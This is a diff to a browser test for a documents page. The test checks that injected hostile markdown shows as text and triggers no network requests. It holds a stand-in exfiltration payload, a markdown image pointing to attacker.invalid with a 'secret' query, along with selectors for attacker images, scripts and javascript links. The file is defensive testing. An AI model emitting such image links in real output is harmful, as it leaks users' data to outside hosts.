@@ -1,6 +1,7 @@
 """The documents page in a real browser: hostile texts stay texts, and a change is seen at the next question."""
 
 import os
+import re
 import subprocess
 import sys
 from collections.abc import Callable
@@ -61,7 +62,9 @@ def test_hostile_documents_make_no_request_and_show_as_text(
     page.goto(f"{url}/documents?document=notes/injected-1.md&tab=Documents")
     expect(main(page).get_by_role("tab", name="Passages")).to_be_visible(timeout=WORDS)
     main(page).get_by_role("tab", name="Passages").click()
-    expect(main(page).get_by_text("![logo](http://attacker.invalid/leak.png?q=secret)").last).to_be_visible()
+    expect(
+        main(page).get_by_text(re.compile(r"!\[logo\]\(http:\u2060?//attacker\.invalid/leak\.png\?q=secret\)")).last
+    ).to_be_visible()
     assert main(page).locator("img[src*=attacker], iframe, script, a[href*=attacker], a[href*=javascript]").count() == 0
     assert strangers == []
 
